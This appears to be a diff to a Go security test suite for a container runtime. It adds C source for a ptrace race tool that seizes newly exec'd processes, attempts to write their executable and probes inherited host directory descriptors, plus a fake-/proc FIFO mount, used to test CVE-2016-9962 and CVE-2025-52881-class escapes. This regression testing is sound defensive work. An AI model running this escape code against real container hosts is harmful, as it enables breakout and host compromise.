@@ -138,8 +138,149 @@ void main_c(long *sp) {
 __asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall main_c\n\thlt\n");
 `
 
+// execRaceSource is /bin/race of the same image, for a container granted
+// CAP_SYS_PTRACE: "race SECONDS" seizes every new process of its PID
+// namespace as early as it can (it spins on the next PID), stops it and
+// reports what it holds: its executable (open for writing?), descriptors,
+// capabilities, cgroups. CAUGHT lines are processes it stopped; EXEWRITE
+// and HOSTFD lines are what it took from them.
+const execRaceSource = `#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/vfs.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+// race SECONDS: seize every new process of the container's PID namespace
+// as early as it can (the next PID, spun on), stop it, and report what it
+// holds: its executable (open for writing?), descriptors, capabilities,
+// cgroup. CAUGHT lines are processes stopped; EXEWRITE/HOSTFD the escape.
+static long last_pid(void) {
+	char b[32] = {0};
+	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
+	if (fd < 0) return -1;
+	read(fd, b, sizeof b - 1);
+	close(fd);
+	return atol(b);
+}
+static void field(int pid, const char *file, const char *key) {
+	char p[64], line[512];
+	snprintf(p, sizeof p, "/proc/%d/%s", pid, file);
+	FILE *f = fopen(p, "r");
+	if (!f) return;
+	while (fgets(line, sizeof line, f))
+		if (!key || !strncmp(line, key, strlen(key))) printf("  %s %s", file, line);
+	fclose(f);
+}
+static int kept = -1; // the first caught peapod binary, for a reopen at the end
+static void inspect(int pid) {
+	char p[64], l[512];
+	snprintf(p, sizeof p, "/proc/%d/exe", pid);
+	ssize_t n = readlink(p, l, sizeof l - 1);
+	l[n > 0 ? n : 0] = 0;
+	if (kept < 0 && strstr(l, "memfd:"))
+		kept = open(p, O_RDONLY);
+	int rw = open(p, O_RDWR);
+	printf("CAUGHT %d exe=%s open-rw=%s\n", pid, l, rw >= 0 ? "ok" : strerrorname_np(errno));
+	if (rw >= 0) {
+		unsigned char c;
+		if (pread(rw, &c, 1, 0) == 1 && pwrite(rw, &c, 1, 0) == 1) printf("EXEWRITE %d\n", pid);
+		close(rw);
+	}
+	field(pid, "status", "CapEff");
+	field(pid, "cgroup", NULL);
+	snprintf(p, sizeof p, "/proc/%d/fd", pid);
+	DIR *d = opendir(p);
+	struct dirent *e;
+	while (d && (e = readdir(d))) {
+		if (e->d_name[0] == '.') continue;
+		char fp[128];
+		snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, e->d_name);
+		n = readlink(fp, l, sizeof l - 1);
+		l[n > 0 ? n : 0] = 0;
+		int fd = open(fp, O_RDONLY | O_DIRECTORY);
+		struct statfs fs = {0};
+		if (fd >= 0) fstatfs(fd, &fs);
+		printf("  fd %s -> %s%s", e->d_name, l, fd >= 0 ? " (directory" : "");
+		if (fd >= 0) {
+			printf(", fs 0x%lx)", (long)fs.f_type);
+			if (atoi(e->d_name) > 2) {
+				// a directory of the host's: how far up does it lead?
+				int up = openat(fd, "../../..", O_RDONLY | O_DIRECTORY);
+				printf(" HOSTFD up=%s", up >= 0 ? "ok" : strerrorname_np(errno));
+				if (up >= 0) close(up);
+			}
+			close(fd);
+		}
+		printf("\n");
+	}
+	if (d) closedir(d);
+}
+int main(int argc, char **argv) {
+	if (argc > 1 && !strcmp(argv[1], "procfifo")) {
+		// "race procfifo" (CAP_SYS_ADMIN): the container's /proc becomes a
+		// tmpfs whose self/setgroups is a FIFO nobody writes.
+		if (mount("fake", "/proc", "tmpfs", 0, NULL) < 0 || mkdir("/proc/self", 0755) < 0 ||
+		    mkfifo("/proc/self/setgroups", 0644) < 0) {
+			printf("procfifo: %s\n", strerrorname_np(errno));
+			return 1;
+		}
+		printf("procfifo ok\n");
+		return 0;
+	}
+	int secs = argc > 1 ? atoi(argv[1]) : 10;
+	time_t end = time(NULL) + secs;
+	int caught = 0, tries = 0;
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	while (time(NULL) < end) {
+		long p = last_pid() + 1;
+		for (int i = 0; i < 2000000 && time(NULL) < end; i++) {
+			if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) {
+				tries++;
+				ptrace(PTRACE_INTERRUPT, p, 0, 0);
+				int st;
+				if (waitpid(p, &st, __WALL) == p && WIFSTOPPED(st)) {
+					caught++;
+					inspect(p);
+				}
+				ptrace(PTRACE_DETACH, p, 0, 0);
+				break;
+			}
+			if (errno != ESRCH) { printf("seize %ld: %s\n", p, strerrorname_np(errno)); break; }
+			if ((i & 4095) == 4095 && last_pid() >= p) break; // missed it
+		}
+	}
+	// Once no process runs it (ETXTBSY until then), the binary kept opens
+	// for writing as a file: its seals must refuse the write.
+	if (kept >= 0) {
+		char p[64];
+		snprintf(p, sizeof p, "/proc/self/fd/%d", kept);
+		int rw = -1;
+		for (int i = 0; i < 200 && rw < 0; i++)
+			if ((rw = open(p, O_RDWR)) < 0) usleep(50000);
+		printf("reopen %s\n", rw >= 0 ? "ok" : strerrorname_np(errno));
+		unsigned char c;
+		if (rw >= 0 && pread(rw, &c, 1, 0) == 1) {
+			if (pwrite(rw, &c, 1, 0) == 1) printf("EXEWRITE reopened\n");
+			else printf("nowrite %s\n", strerrorname_np(errno));
+		}
+	}
+	printf("done caught=%d seized=%d\n", caught, tries);
+	return 0;
+}
+`
+
 // hostPayloadImage is an image of nothing but /bin/evil, the payload as
-// the program interpreter, and the directories the tests use.
+// the program interpreter, /bin/race and the directories the tests use.
 func hostPayloadImage(t *testing.T, regAddr string) string {
 	t.Helper()
 	root := filepath.Join(t.TempDir(), "rootfs")
@@ -162,6 +303,13 @@ func hostPayloadImage(t *testing.T, regAddr string) string {
 		"-o", filepath.Join(root, "lib64", "ld-linux-x86-64.so.2"), src)
 	if out, err := build.CombinedOutput(); err != nil {
 		t.Fatalf("build the payload (gcc): %v: %s", err, out)
+	}
+	src = filepath.Join(t.TempDir(), "race.c")
+	if err := os.WriteFile(src, []byte(execRaceSource), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("gcc", "-O2", "-static", "-o", filepath.Join(root, "bin", "race"), src).CombinedOutput(); err != nil {
+		t.Fatalf("build the race (gcc -static, libc6-dev): %v: %s", err, out)
 	}
 	testenv.PushImage(t, regAddr, "e2e-test-images/hostpayload:it", root, testenv.ImageConfig{Cmd: []string{"/bin/evil", "init"}})
 	return "registry.k8s.io/e2e-test-images/hostpayload:it"
@@ -332,6 +480,87 @@ func TestEscapeExecWorkdirFD(t *testing.T) {
 	if err != nil || !strings.Contains(string(r.Stdout), "GETCWD /w\n") {
 		t.Errorf("exec in a plain /w: %v %q", err, r.GetStdout())
 	}
+}
+
+// TestEscapeExecPtraceRace is CVE-2016-9962 against the exec helper: a
+// container granted CAP_SYS_PTRACE seizes each exec's process as soon as
+// its PID exists (before it drops anything), while execs run in a loop.
+// The helper itself is in the host's PID namespace, out of reach; its exec
+// process is the container's from its birth. Such a container can take
+// that process over before it drops its capabilities (the residual
+// docs/security.md states, as for runc's setns init); what must hold is
+// that peapod's binary stays unwritable however early it is caught.
+func TestEscapeExecPtraceRace(t *testing.T) {
+	d, image := hostPayloadDaemon(t)
+	podCfg := podConfig("ptrace", t.TempDir())
+	podCfg.Linux.SecurityContext = &runtimeapi.LinuxSandboxSecurityContext{NamespaceOptions: &runtimeapi.NamespaceOption{Pid: runtimeapi.NamespaceMode_POD}}
+	pod := runPod(t, d, podCfg).PodSandboxId
+	cfg := capsContainer("race", image, podCfg, "SYS_PTRACE")
+	cfg.Command = nil // the image's: the payload, which stays
+	ctr := startContainer(t, d, pod, podCfg, cfg)
+
+	stop := make(chan struct{})
+	execs := make(chan int, 1)
+	go func() {
+		n := 0
+		defer func() { execs <- n }()
+		for {
+			select {
+			case <-stop:
+				return
+			default:
+			}
+			// A command that exits at once; the race is over before it.
+			d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 60})
+			n++
+		}
+	}()
+	r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "10"}, Timeout: 50})
+	close(stop)
+	n := <-execs
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := string(r.Stdout) + string(r.Stderr)
+	t.Logf("%d execs raced:\n%s", n, out)
+	if !strings.Contains(out, "done caught=") {
+		t.Fatalf("the race did not finish")
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(line, "EXEWRITE") {
+			t.Errorf("peapod's binary writable through a caught exec process: %s", line)
+		}
+	}
+	// The execs still work.
+	if r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 60}); err != nil || r.ExitCode != 0 {
+		t.Errorf("exec after the race: %v %v", err, r)
+	}
+}
+
+// TestEscapeExecProcRedirect is CVE-2025-52881's class against the exec
+// helper: what the exec process reads or writes below the container's
+// /proc, a container granted CAP_SYS_ADMIN can replace with a mount of its
+// own. Here /proc becomes a tmpfs whose self/setgroups is a FIFO: an exec
+// must neither wait on it nor take its word.
+func TestEscapeExecProcRedirect(t *testing.T) {
+	d, image := hostPayloadDaemon(t)
+	podCfg := podConfig("procredirect", t.TempDir())
+	podCfg.Linux.SecurityContext = &runtimeapi.LinuxSandboxSecurityContext{NamespaceOptions: &runtimeapi.NamespaceOption{Pid: runtimeapi.NamespaceMode_CONTAINER}}
+	pod := runPod(t, d, podCfg).PodSandboxId
+	cfg := capsContainer("admin", image, podCfg, "SYS_ADMIN")
+	cfg.Command = nil
+	cfg.Linux.SecurityContext.SupplementalGroups = []int64{4242}
+	ctr := startContainer(t, d, pod, podCfg, cfg)
+	if r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "procfifo"}, Timeout: 30}); err != nil || r.ExitCode != 0 {
+		t.Fatalf("mount the fake /proc: %v %s %s", err, r.GetStdout(), r.GetStderr())
+	}
+	start := time.Now()
+	r, err := d.RT.ExecSync(ctx(t), &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: []string{"/bin/race", "0"}, Timeout: 30})
+	took := time.Since(start)
+	if err != nil || r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "done caught=0") {
+		t.Fatalf("an exec after /proc was replaced (%s): %v %v %q %q", took, err, r.GetExitCode(), r.GetStdout(), r.GetStderr())
+	}
+	t.Logf("exec in %s", took)
 }
 
 func firstLine(s string) string {
